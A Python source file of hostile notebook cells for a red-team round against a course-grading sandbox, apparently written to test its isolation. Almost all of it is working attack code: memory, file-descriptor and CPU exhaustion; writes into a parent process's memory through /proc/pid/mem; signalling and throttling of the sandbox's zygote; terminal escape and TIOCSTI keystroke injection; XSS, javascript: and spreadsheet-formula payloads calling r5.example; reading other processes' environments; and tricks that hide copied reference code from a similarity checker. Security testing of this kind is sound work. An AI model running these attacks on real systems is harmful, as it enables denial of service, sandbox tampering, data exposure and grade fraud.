# ruff: noqa: E501
"""Attack round 5 (issue 42, item 8): hostile notebooks written from docs/instructors.md, README.md
and `python -m helpers grade --help` alone.

Each attack is a list of code cells (the first is the shared prelude). Every attack defines a
wrong `relu` (x.abs(): `failed`) unless its aim is points, so that its rows say what happened, and
reports what it saw by raising `Exception('R5REPORT {json}')` (the feedback lists the errors a
notebook raised). `build.py` writes them into batches beside honest classmates.
"""

from __future__ import annotations

from .prelude import PRELUDE, WRONG_RELU

GiB = 1 << 30

# ---------------------------------------------------------------------------------------------
# Memory held outside what a process's RSS/PSS shows (the docs: "memory, as a whole ... shared
# memory included ... with or without cgroups"). Each asks for 3 GiB: over the 2 GiB that
# `--memory 1` promises for a slot. Cell 2 reports what it got and the host's /proc/meminfo
# deltas; cell 3 holds it 20 s (beside classmates); cell 4 says it survived.
# ---------------------------------------------------------------------------------------------

HOLD = "hold(20)\nreport(stage='held 20 s and still alive', mem=delta(B, meminfo()))\n"

M_SYSV_SHM = r"""
B = meminfo(); got = 0; errs = []; ids = []
libc.shmget.restype = ctypes.c_int; libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p; libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
for i in range(12):                                   # 12 x 256 MiB, touched, then detached
    sid = libc.shmget(0, 256 << 20, 0o1000 | 0o600)
    if sid < 0:
        errs.append(('shmget', ctypes.get_errno())); break
    addr = libc.shmat(sid, None, 0)
    if addr is None or addr == ctypes.c_void_p(-1).value:
        errs.append(('shmat', ctypes.get_errno())); break
    ctypes.memset(addr, 1, 256 << 20)
    libc.shmdt(addr)
    ids.append(sid); got += 256
time.sleep(1)
report(attack='sysv shm, detached', MiB=got, errs=errs, mem=delta(B, meminfo()))
"""

M_DEVSHM_FILES = r"""
B = meminfo(); got = 0; err = None
try:
    for i in range(12):                               # 12 files x 256 MiB in /dev/shm, closed
        with open(f'/dev/shm/r5_blob{i}', 'wb') as f:
            for j in range(256):
                f.write(b'\1' * (1 << 20))
        got += 256
except OSError as e:
    err = repr(e)
st = os.statvfs('/dev/shm')
report(attack='/dev/shm files, not mapped', MiB=got, err=err, devshm_MiB=st.f_blocks * st.f_frsize >> 20,
       devshm_inodes=st.f_files, mem=delta(B, meminfo()))
"""

M_PAGE_TABLES = r"""
B = meminfo(); err = None
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
STEP = 2 << 20
N = 3 * (1 << 30) // 4096                            # one 4 KiB page-table page per 2 MiB read
addr = libc.mmap(None, N * STEP, 1, 0x02 | 0x20 | 0x4000, -1, 0)   # PROT_READ, private, NORESERVE
if addr in (None, ctypes.c_void_p(-1).value):
    report(attack='page tables', err=('mmap', ctypes.get_errno()))
libc.madvise(addr, N * STEP, 15)                      # MADV_NOHUGEPAGE: no huge zero page
t = time.time()
try:
    import numpy as np
    done = 0
    for start in range(0, N, 65536):                  # reads of the zero page, 2 MiB apart
        n = min(65536, N - start)
        buf = (ctypes.c_uint8 * ((n - 1) * STEP + 1)).from_address(addr + start * STEP)
        a = np.lib.stride_tricks.as_strided(np.frombuffer(buf, np.uint8), (n,), (STEP,))
        int(a.sum()); done += n
except Exception as e:
    err = repr(e)
rss = [l for l in open('/proc/self/status') if l.startswith(('VmRSS', 'VmPTE', 'VmData'))]
report(attack='page tables of zero-page reads', reads=done, seconds=round(time.time() - t, 1), err=err,
       status=rss, mem=delta(B, meminfo()))
"""

M_SOCKET_BUFFERS = r"""
B = meminfo(); err = None
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))
except Exception as e:
    err = repr(e)
pairs = []; total = 0; chunk = b'\0' * 65536
try:
    while total < 3 << 30:                            # unix stream pairs, send buffers full
        a, b = socket.socketpair()
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        a.setblocking(False)
        try:
            while True:
                total += a.send(chunk)
        except BlockingIOError:
            pass
        pairs.append((a, b))
except OSError as e:
    err = repr(e)
time.sleep(1)
report(attack='unix socket buffers', MiB_queued=total >> 20, pairs=len(pairs), nofile=(soft, hard),
       err=err, mem=delta(B, meminfo()))
"""

M_PIPE_BUFFERS = r"""
import fcntl
B = meminfo(); err = None
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 800000), hard))
except Exception as e:
    err = repr(e)
pipes = []; total = 0; big = 0; chunk = b'\0' * 4096; t = time.time()
try:
    while total < 3 << 30 and time.time() - t < 60:
        r, w = os.pipe()
        try:
            fcntl.fcntl(w, 1031, 1 << 20); big += 1      # F_SETPIPE_SZ: 1 MiB where allowed
        except OSError:
            pass
        os.set_blocking(w, False)
        try:
            while True:
                total += os.write(w, chunk)
        except BlockingIOError:
            pass
        pipes.append((r, w))
except OSError as e:
    err = repr(e)
report(attack='pipe buffers', MiB_queued=total >> 20, pipes=len(pipes), one_MiB_pipes=big,
       nofile=(soft, hard), seconds=round(time.time() - t), err=err, mem=delta(B, meminfo()))
"""

M_DENTRIES = r"""
B = meminfo(); err = None; made = 0; t = time.time(); where = '/dev/shm'
name = 'r5_' + 'n' * 200
try:
    for d in range(200):                              # empty files, long names: inodes + dentries
        os.mkdir(f'{where}/r5d{d}')
        for i in range(10000):
            os.close(os.open(f'{where}/r5d{d}/{name}{i}', os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
        if time.time() - t > 60:
            break
except OSError as e:
    err = repr(e)
st = os.statvfs(where)
report(attack='empty files in /dev/shm', files=made, seconds=round(time.time() - t), err=err,
       devshm_inodes=st.f_files, mem=delta(B, meminfo()))
"""

M_THREAD_STACKS = r"""
B = meminfo()
libc.pthread_self.restype = ctypes.c_ulong
def touch_stack(ev, out):
    attr = ctypes.create_string_buffer(256)
    libc.pthread_getattr_np(ctypes.c_ulong(libc.pthread_self()), attr)
    addr, size = ctypes.c_void_p(), ctypes.c_size_t()
    libc.pthread_attr_getstack(attr, ctypes.byref(addr), ctypes.byref(size))
    ctypes.memset(addr.value, 1, size.value - (8 << 20))
    out.append(size.value >> 20)
    ev.wait()
def stacks(n):
    threading.stack_size(256 << 20)
    ev, out, errs = threading.Event(), [], []
    for i in range(n):
        try:
            threading.Thread(target=touch_stack, args=(ev, out), daemon=True).start()
        except Exception as e:
            errs.append(repr(e)); break
    time.sleep(3)
    return ev, out, errs
ev0, out0, errs0 = stacks(12)                         # 12 x 256 MiB in this process
kids = []
for k in range(4):                                    # and 4 children x 3 x 256 MiB
    pid = os.fork()
    if pid == 0:
        stacks(3); time.sleep(60); os._exit(0)
    kids.append(pid)
time.sleep(6)
alive = [p for p in kids if os.waitpid(p, os.WNOHANG) == (0, 0)]
report(attack='thread stacks', here_MiB=sum(out0), here_errs=errs0, children_alive=len(alive),
       mem=delta(B, meminfo()))
"""

M_NONDUMPABLE = r"""
import mmap
B = meminfo(); kids = []
for k in range(6):                                    # 6 children x 512 MiB shared, not dumpable
    pid = os.fork()
    if pid == 0:
        libc.prctl(4, 0, 0, 0, 0)                     # PR_SET_DUMPABLE 0: /proc/<pid>/smaps root's
        m = mmap.mmap(-1, 512 << 20)
        ctypes.memset(ctypes.addressof(ctypes.c_char.from_buffer(m)), 1, 512 << 20)
        time.sleep(60); os._exit(0)
    kids.append(pid)
time.sleep(8)
alive = [p for p in kids if os.waitpid(p, os.WNOHANG) == (0, 0)]
report(attack='non-dumpable children, 3 GiB shared', children_alive=len(alive), mem=delta(B, meminfo()))
"""

# ---------------------------------------------------------------------------------------------
# Per-user kernel objects the docs do not list (keys, inotify, mqueues and namespaces are):
# epoll watches (fs.epoll.max_user_watches, per uid, no capability exempts) and open files
# (fs.file-max, host-wide; only CAP_SYS_ADMIN is exempt).
# ---------------------------------------------------------------------------------------------

U_EPOLL = r"""
B = meminfo(); err = None
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20000), hard))
except Exception as e:
    err = repr(e)
limit = int(open('/proc/sys/fs/epoll/max_user_watches').read())
fds = [os.eventfd(0) for _ in range(4000)]
eps = []; n = 0; t = time.time()
try:
    while n < limit + 10 and time.time() - t < 90:
        ep = select.epoll(); eps.append(ep)
        for fd in fds:
            ep.register(fd, select.EPOLLIN); n += 1
except OSError as e:
    err = repr(e)
report(attack='epoll watches of the uid', watches=n, max_user_watches=limit, epolls=len(eps),
       seconds=round(time.time() - t), err=err, mem=delta(B, meminfo()))
"""

U_EPOLL_HOLD = "hold(45)\nreport(stage='held the watches 45 s')\n"

U_FILES = r"""
B = meminfo(); err = None
fmax = int(open('/proc/sys/fs/file-max').read())
nr0 = open('/proc/sys/fs/file-nr').read().split()
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
limits = [l.strip() for l in open('/proc/self/limits') if 'files' in l or 'processes' in l]
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 550000), hard))
except Exception as e:
    err = repr(e)
fds = []
try:
    for i in range(500000):                          # 500,000 here, as many in one child
        fds.append(os.open('/dev/null', os.O_RDONLY))
except OSError as e:
    err = repr(e)
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    got = 0
    try:
        for i in range(500000):
            os.open('/dev/null', os.O_RDONLY); got += 1
    except OSError:
        pass
    os.write(w, str(got).encode()); time.sleep(40); os._exit(0)
child = int(os.read(r, 64) or 0)
nr1 = open('/proc/sys/fs/file-nr').read().split()
report(attack='open files of one slot vs fs.file-max', here=len(fds), child=child, file_max=fmax,
       file_nr_before=nr0, file_nr_after=nr1, nofile=(soft, hard), limits=limits, err=err,
       mem=delta(B, meminfo()))
"""

# ---------------------------------------------------------------------------------------------
# The zygote: "every process in the sandbox but the zygote is killed ... the zygote compares its
# own state with its start at each reset" (limits, priority, affinity, oom_score_adj are named).
# ---------------------------------------------------------------------------------------------

Z_MEMWRITE = r'''
import torch, torch.serialization
zyg = os.getppid()
info = {'zygote': zyg}
def swap_in(pid, d, old, new):
    """In pid (the process this kernel was forked from: the same addresses), put `new` where d
    holds `old` (CPython 3.11 dict layout)."""
    with open(f'/proc/{pid}/mem', 'r+b', buffering=0) as m:
        m.seek(id(d) + 32); keys = struct.unpack('Q', m.read(8))[0]
        m.seek(keys); hdr = m.read(32)
        log2_index_bytes, kind = hdr[9], hdr[10]
        nentries = struct.unpack('q', hdr[24:32])[0]
        start = keys + 32 + (1 << log2_index_bytes)
        m.seek(start); blob = m.read(nentries * (16 if kind else 24))
        hits, i = [], blob.find(struct.pack('Q', id(old)))
        while i >= 0:
            if i % 8 == 0:
                hits.append(start + i)
            i = blob.find(struct.pack('Q', id(old)), i + 1)
        for h in hits:
            m.seek(h); m.write(struct.pack('Q', id(new)))
        return len(hits)
for name, d in (('torch', torch.__dict__), ('torch.serialization', torch.serialization.__dict__)):
    try:
        info[name] = swap_in(zyg, d, torch.save, torch.load)   # torch.save -> torch.load there
    except Exception as e:
        info[name] = repr(e)
report(attack='torch.save swapped for torch.load in the zygote', **info)
'''

Z_SIGSTOP = r"""
sig = {l.split(':')[0]: l.split(':')[1].strip() for l in open('/proc/1/status') if l.startswith('Sig')}
sent = {}
for s in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGHUP, signal.SIGALRM,
          signal.SIGCHLD, signal.SIGPIPE, signal.SIGWINCH):
    try:                                              # pid 1 is the zygote: an init gets only the
        os.kill(1, s); sent[s.name] = 'sent'          # signals it has a handler for (Python: SIGINT)
    except OSError as e:
        sent[s.name] = repr(e)
    time.sleep(0.3)
report(zygote_sig=sig, sent=sent, zygote_state=[l.strip() for l in open('/proc/1/status') if l.startswith('State')])
"""


Z_SCHED_IDLE = r"""
zyg = os.getppid(); out = {'zygote': zyg}
try:
    os.sched_setscheduler(zyg, os.SCHED_IDLE, os.sched_param(0)); out['sched'] = 'SCHED_IDLE'
except OSError as e:
    out['sched'] = repr(e)
libc.syscall.restype = ctypes.c_long
r = libc.syscall(251, 1, zyg, (3 << 13) | 7)          # ioprio_set(PROCESS, zygote, IDLE class)
out['ioprio'] = r if r == 0 else ('errno', ctypes.get_errno())
try:
    with open(f'/proc/{zyg}/autogroup', 'w') as f:    # the session's autogroup: nice 19
        f.write('19')
    out['autogroup'] = open(f'/proc/{zyg}/autogroup').read().strip()
except OSError as e:
    out['autogroup'] = repr(e)
try:
    with open(f'/proc/{zyg}/timerslack_ns', 'w') as f:
        f.write('100000000')
    out['timerslack'] = 'set'
except OSError as e:
    out['timerslack'] = repr(e)
out['policy_now'] = os.sched_getscheduler(zyg)
report(attack='the zygote made SCHED_IDLE, idle I/O, autogroup nice 19', **out)
"""

Z_AUTOGROUP = r"""
zyg = 1; out = {}
r = libc.syscall(251, 1, zyg, (3 << 13) | 7)          # ioprio_set(PROCESS, zygote, IDLE class)
out['ioprio'] = r if r == 0 else ('errno', ctypes.get_errno())
try:                                                  # the autogroup of the sandbox's session: every
    with open('/proc/1/autogroup', 'w') as f:         # later kernel forked there shares it
        f.write('19')
    out['autogroup'] = open('/proc/1/autogroup').read().strip()
except OSError as e:
    out['autogroup'] = repr(e)
out['cgroup'] = open('/proc/1/cgroup').read().replace('\n', ' ')[:200]
report(**out)
"""

# ---------------------------------------------------------------------------------------------
# Time and signals.
# ---------------------------------------------------------------------------------------------

T_KILL_OWN_KERNEL = r"""
kpid = os.getpid()
def files():
    return {os.path.join(d, f) for d, _, fs in os.walk('.') for f in fs}
before = files()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:                                # a watcher: SIGKILL the kernel as soon as the
        t = time.time()                               # grader drops a file in the folder (a probe),
        while time.time() - t < 900:                  # like a busy machine's OOM killer would
            if files() - before:
                os.kill(kpid, 9); os._exit(0)
            time.sleep(0.002)
        os._exit(0)
    os._exit(0)
"""

T_IMMORTAL = r"""
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
def relu(x):
    while True:                                       # never returns, shrugs off interrupts
        try:
            time.sleep(1000)
        except BaseException:
            pass
pairwise_sq_dists = relu
q_check_verdict = "b"
"""

T_SLEEP_UNDER = "t = time.time()\nwhile time.time() - t < 9.5:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass\n"

T_HOG = r"""
kids = []
for i in range(32):                                   # 32 busy processes: the CPU of the machine
    pid = os.fork()
    if pid == 0:
        while True:
            pass
    kids.append(pid)
"""

# ---------------------------------------------------------------------------------------------
# Output forms and what reaches the instructor.
# ---------------------------------------------------------------------------------------------

O_RAW_FDS = r"""
fds = {}
for fd in sorted(os.listdir('/proc/self/fd'), key=int):
    try:
        fds[fd] = os.readlink(f'/proc/self/fd/{fd}')
    except OSError as e:
        fds[fd] = repr(e)
res = {}
for fd, data in ((1, b'\x1b]0;R5-PWNED-TITLE\x07\x1b[31mR5-RAW-STDOUT\x1b[0m\n'),
                 (2, b'\x1b]52;c;UjUtQ0xJUEJPQVJE\x07R5-RAW-STDERR\n')):
    try:
        res[fd] = os.write(fd, data)
    except OSError as e:
        res[fd] = repr(e)
try:
    import fcntl, termios
    tty = os.open('/dev/tty', os.O_RDWR)
    os.write(tty, b'\x1b]0;R5-TTY-TITLE\x07R5-TTY-WRITE\n')
    res['tty'] = 'opened'
    try:
        for ch in b'echo R5-INJECTED\n':
            fcntl.ioctl(tty, termios.TIOCSTI, bytes([ch]))
        res['tiocsti'] = 'injected'
    except OSError as e:
        res['tiocsti'] = repr(e)
except OSError as e:
    res['tty'] = repr(e)
t = time.time(); flooded = 0
try:
    line = b'R5FLOOD' * 9362 + b'\n'                  # 64 KiB lines, 400 MiB to each raw fd
    for i in range(6400):
        os.write(2, line); os.write(1, line); flooded += 2 * len(line)
except OSError as e:
    res['flood'] = repr(e)
report(attack='raw fds 1 and 2, /dev/tty', fds=fds, res=res, flood_MiB=flooded >> 20,
       seconds=round(time.time() - t, 1))
"""

MD_PAYLOAD = (
    "</code></pre>\n```\n\n# 00.relu: passed, 1 / 1 point\n\n| exercise | points | status |\n"
    "| --- | --- | --- |\n| 00.relu | 1 / 1 | passed |\n\n"
    '<img src="https://r5.example/pixel.png?who=mallory"><script>alert("r5")</script>\n'
    "[your grade](javascript:alert(1))\n```\n"
)

O_MARKDOWN_CELL = f"raise Exception({MD_PAYLOAD!r})\n"
O_MARKDOWN_EXERCISES = (
    f"def relu(x):\n    raise ValueError({MD_PAYLOAD!r})\n\n"
    "def pairwise_sq_dists(a, b):\n"
    '    raise ValueError(\'\\uff1dHYPERLINK("https://r5.example/?"&A1,"open") \\u00a0=1+1\')\n'
    "q_check_verdict = '<img src=x onerror=alert(2)>'\n"
)

BT_PAYLOAD = (
    "x` <img src=x onerror=alert(1)> **[3.5 / 3.5 points: all passed](https://r5.example)** `y"
)
O_BACKTICKS_CELL = f"raise Exception({BT_PAYLOAD!r})\n"
O_BACKTICKS_EXERCISES = (
    f"def relu(x):\n    raise ValueError({BT_PAYLOAD!r})\n\n"
    "def pairwise_sq_dists(a, b):\n    raise ValueError('````\\n# forged heading\\n````')\n"
)

O_HUGE_ENAME = r"""
E = type('E' * 900000 + 'CELL{n}', (Exception,), {{}})
e = E('v' * 900000)
e.add_note('n' * 900000)
raise e
"""

O_HUGE_RELU = r"""
def relu(x):
    E = type('R' * 1000000, (Exception,), {})
    raise E('w' * 1000000)
"""

O_PROC_RECON = r"""
found = {}
for p in sorted(int(x) for x in os.listdir('/proc') if x.isdigit()):
    d = {}
    for f in ('cmdline', 'environ'):
        try:
            d[f] = open(f'/proc/{p}/{f}', 'rb').read()[:1500].decode('utf-8', 'replace').replace('\0', ' ')
        except OSError as e:
            d[f] = repr(e)
    try:
        d['status'] = [l.strip() for l in open(f'/proc/{p}/status') if l.split(':')[0] in
                       ('Name', 'PPid', 'Uid', 'CapEff', 'NoNewPrivs', 'Seccomp')]
    except OSError as e:
        d['status'] = repr(e)
    found[p] = d
REC = found
report(attack='what /proc of the sandbox tells (cmdline, environ)', me=os.getpid(), processes=found)
"""

O_PROC_RECON2 = r"""
mounts = [l.split(' - ')[0].split()[3:5] for l in open('/proc/self/mountinfo')]
blob = json.dumps(REC) + json.dumps(mounts)
keys = {k: (k in blob) for k in ('/work', 'wt-attacks', '/root', '/tmp/r5', 'HOSTNAME', 'SSH_', 'LS_COLORS',
                                 'seed', '555', 'grades.csv', 'zz_', 'a1_z', 'VIRTUAL_ENV')}
report(attack='host strings seen', keys=keys, mounts=mounts[:80],
       limits=[l.strip() for l in open('/proc/self/limits')], cgroup=open('/proc/self/cgroup').read())
"""

# ---------------------------------------------------------------------------------------------
# Readers: odd notebook JSON (raw text, see build.py), code the report parses.
# ---------------------------------------------------------------------------------------------

SURROGATE_RELU = "def relu(x):\n    return x * (x > 0)  # \ud800 a lone surrogate\n"
SURROGATE_CELL = "s = '\udcff\ud83d'\n"
NUL_PAIRWISE = "def pairwise_sq_dists(a, b):\n    return ((a[..., :, None, :] - b[..., None, :, :]) ** 2).sum(-1)\x00\n"


def huge_pairwise(lines: int) -> str:
    body = "    t = a\n" * lines
    return (
        "def pairwise_sq_dists(a, b):\n"
        + body
        + "    return ((a[..., :, None, :] - b[..., None, :, :]) ** 2).sum(-1)\n"
    )


# ---------------------------------------------------------------------------------------------
# The similarity report: the reference's code where the report does not look.
# ---------------------------------------------------------------------------------------------

REFERENCE_PAIRWISE = """    centre = b.mean(dim=-2, keepdim=True)  # (..., 1, d): a common shift changes no distance
    a, b = a - centre, b - centre
    sq_a = (a * a).sum(-1)[..., :, None]  # (..., N, 1)
    sq_b = (b * b).sum(-1)[..., None, :]  # (..., 1, M)
    return (sq_a + sq_b - 2 * a @ b.transpose(-2, -1)).clamp_min(0)  # (..., N, M)
"""

S_HELPER = (
    "def _geometry(a, b):\n"
    + REFERENCE_PAIRWISE
    + "\n\ndef pairwise_sq_dists(a, b):\n    return _geometry(a, b)\n"
)
S_EXEC_LITERAL = 'exec("""def pairwise_sq_dists(a, b):\n' + REFERENCE_PAIRWISE + '""")\n'
HONEST_PAIRWISE_ALT = (
    "def pairwise_sq_dists(a, b):\n"
    "    diff = a.unsqueeze(-2) - b.unsqueeze(-3)\n"
    "    return (diff * diff).sum(dim=-1)\n"
)

# ---------------------------------------------------------------------------------------------
# The judge: outputs of odd kinds, answers that hedge.
# ---------------------------------------------------------------------------------------------

G_EMPTY = "def relu(x):\n    return torch.empty(0)\n\ndef pairwise_sq_dists(a, b):\n    return torch.empty(0, 0)\n"
G_META = (
    "def relu(x):\n    return torch.empty_like(x, device='meta')\n\n"
    "def pairwise_sq_dists(a, b):\n    return torch.empty(*a.shape[:-1], b.shape[-2], device='meta')\n"
)
G_Q_ALL = "q_check_verdict = 'a b c d'\n"
G_Q_LIST = "q_check_verdict = ['a', 'b', 'c', 'd']\n"
G_Q_SPACE = "q_check_verdict = ' B\\n'\n"


MORE = ["more()\n"] * 10


def cells(*body: str, prelude: bool = True) -> list[str]:
    return (
        ([PRELUDE] if prelude else []) + ["import torch\n"] + list(body) + (MORE if prelude else [])
    )


def memory_attack(code: str) -> list[str]:
    return cells(WRONG_RELU, code, HOLD)


ATTACKS: dict[str, list[str]] = {
    "m_sysv_shm": memory_attack(M_SYSV_SHM),
    "m_devshm_files": memory_attack(M_DEVSHM_FILES),
    "m_page_tables": memory_attack(M_PAGE_TABLES),
    "m_socket_buffers": memory_attack(M_SOCKET_BUFFERS),
    "m_pipe_buffers": memory_attack(M_PIPE_BUFFERS),
    "m_dentries": memory_attack(M_DENTRIES),
    "m_thread_stacks": memory_attack(M_THREAD_STACKS),
    "m_nondumpable": memory_attack(M_NONDUMPABLE),
    "u_epoll": cells(WRONG_RELU, U_EPOLL, U_EPOLL_HOLD),
    "u_files": cells(WRONG_RELU, U_FILES, "hold(20)\n"),
    "z_memwrite": cells(WRONG_RELU, Z_MEMWRITE),
    "z_sigstop": cells(WRONG_RELU, Z_SIGSTOP),
    "z_sched_idle": cells(WRONG_RELU, Z_SCHED_IDLE),
    "z_autogroup": cells(WRONG_RELU, Z_AUTOGROUP),
    "t_kill_own_kernel": cells(
        T_KILL_OWN_KERNEL, WRONG_RELU, "def pairwise_sq_dists(a, b):\n    return a\n"
    ),
    "t_immortal": cells(T_IMMORTAL, T_SLEEP_UNDER, T_SLEEP_UNDER, T_SLEEP_UNDER, T_SLEEP_UNDER),
    "t_hog": cells(WRONG_RELU, T_HOG, *(["hold(9)\n"] * 8)),
    "o_raw_fds": cells(WRONG_RELU, O_RAW_FDS),
    "o_markdown": cells(O_MARKDOWN_CELL, O_MARKDOWN_EXERCISES),
    "o_backticks": cells(O_BACKTICKS_CELL, O_BACKTICKS_EXERCISES),
    "o_huge_ename": cells(O_HUGE_RELU, *[O_HUGE_ENAME.format(n=n) for n in range(20)]),
    "o_proc_recon": cells(WRONG_RELU, O_PROC_RECON, O_PROC_RECON2),
    "s_helper": cells(WRONG_RELU, S_HELPER),
    "s_exec_literal": cells(WRONG_RELU, S_EXEC_LITERAL),
    "g_empty": cells(G_EMPTY, G_Q_ALL, prelude=False),
    "g_meta": cells(G_META, G_Q_LIST, prelude=False),
    "g_q_space": cells(WRONG_RELU, G_Q_SPACE, prelude=False),
}
